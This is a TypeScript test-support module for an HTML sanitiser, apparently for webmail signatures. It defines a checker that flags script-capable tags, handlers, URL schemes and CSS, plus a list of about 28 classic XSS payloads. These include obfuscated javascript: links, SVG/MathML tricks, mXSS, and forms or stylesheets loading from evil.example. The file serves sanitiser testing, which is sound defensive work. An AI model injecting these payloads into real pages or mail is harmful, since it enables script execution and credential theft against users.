/**
 * Reads sanitiser output (well-formed: attributes double-quoted, '<' in text escaped) and lists
 * anything that could run script or load what it should not. An empty list means inert.
 */
const TAG = /<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g;
const ATTRIBUTE = /([^\s=/"']+)(?:="([^"]*)")?/g;

export interface InertOptions {
  tags: readonly string[];
  imageSchemes: readonly string[];
}

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

function scheme(url: string): string | undefined {
  // eslint-disable-next-line no-control-regex -- browsers ignore these inside a scheme
  return /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\u0000-\u0020]/g, ''))?.[1]?.toLowerCase();
}

export function inertnessProblems(html: string, options: InertOptions): string[] {
  const problems: string[] = [];
  for (const [, rawTag = '', rawAttributes = ''] of html.matchAll(TAG)) {
    const tag = rawTag.toLowerCase();
    if (!options.tags.includes(tag)) problems.push(`tag <${tag}>`);
    for (const [, rawName = '', rawValue = ''] of rawAttributes.matchAll(ATTRIBUTE)) {
      const name = rawName.toLowerCase();
      const value = decode(rawValue);
      if (name.startsWith('on')) problems.push(`handler ${name}`);
      if (['srcdoc', 'xlink:href', 'formaction', 'action', 'background', 'srcset'].includes(name)) {
        problems.push(`attribute ${name}`);
      }
      if (name === 'href' && !['http', 'https', 'mailto'].includes(scheme(value) ?? '')) {
        problems.push(`href ${value}`);
      }
      if (name === 'src' && !options.imageSchemes.includes(scheme(value) ?? ''))
        problems.push(`src ${value}`);
      if (name === 'style' && /url\s*\(|expression\s*\(|\\|@import|behavior|binding/i.test(value)) {
        problems.push(`style ${value}`);
      }
    }
  }
  return problems;
}

export const SIGNATURE_TAGS = [
  'b',
  'strong',
  'i',
  'em',
  'u',
  's',
  'br',
  'p',
  'div',
  'span',
  'a',
  'img',
  'hr',
  'ul',
  'ol',
  'li',
  'blockquote',
  'table',
  'thead',
  'tbody',
  'tr',
  'td',
  'th',
];

/** Classic webmail attacks; each is appended to visible text so a signature stays valid. */
export const HOSTILE_HTML: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script in caps': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'onerror handler': '<img src="https://ok.example/a.png" onerror="alert(1)">',
  'onload handler': '<body onload=alert(1)><div onload="alert(1)" onmouseover="alert(2)">x</div>',
  'javascript: link': '<a href="javascript:alert(1)">a</a>',
  'javascript: link, tab entity': '<a href="jav&#x09;ascript:alert(1)">a</a>',
  'javascript: link, spaces and case': '<a href="  JaVaScRiPt:alert(1)">a</a>',
  'javascript: link, numeric entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  'data: link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  'data: image': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'vbscript: link': '<a href="vbscript:msgbox(1)">a</a>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'svg animate':
    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x"><text x="20" y="20">click</text></a></svg>',
  'svg set': '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  'mathml maction':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>',
  'mathml link': '<math href="javascript:alert(1)"><mi>x</mi></math>',
  'css url()': '<span style="color:red;background:url(javascript:alert(1))">c</span>',
  'css expression()': '<span style="color:expression(alert(1))">c</span>',
  'css escapes': '<span style="color:\\72 ed;background-image:\\75 rl(x)">c</span>',
  'noscript mXSS': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'base tag': '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  form: '<form action="https://evil.example/"><input name="p" type="password"><button formaction="javascript:alert(1)">go</button></form>',
  'object and embed':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'style element': '<style>@import "https://evil.example/x.css"; body{background:url(x)}</style>',
  comment: '<!--<img src=x onerror=alert(1)>-->',
  'template element': '<template><img src=x onerror=alert(1)></template>',
};
